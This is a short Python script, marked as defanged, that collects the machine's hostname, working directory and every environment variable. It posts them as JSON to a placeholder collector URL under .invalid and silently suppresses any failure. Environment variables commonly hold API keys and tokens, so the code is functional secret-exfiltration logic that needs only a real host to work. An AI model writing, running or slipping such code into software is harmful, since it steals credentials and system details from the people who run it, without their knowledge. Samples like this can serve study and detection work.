# defanged: collector host under .invalid
import json
import os
import socket
import urllib.request

info = {
    "host": socket.gethostname(),
    "cwd": os.getcwd(),
    "env": json.dumps(dict(os.environ)),
}
req = urllib.request.Request(
    "https://collect.example.invalid/e",
    data=json.dumps(info).encode(),
    headers={"Content-Type": "application/json"},
)
try:
    urllib.request.urlopen(req, timeout=3)
except Exception:
    pass
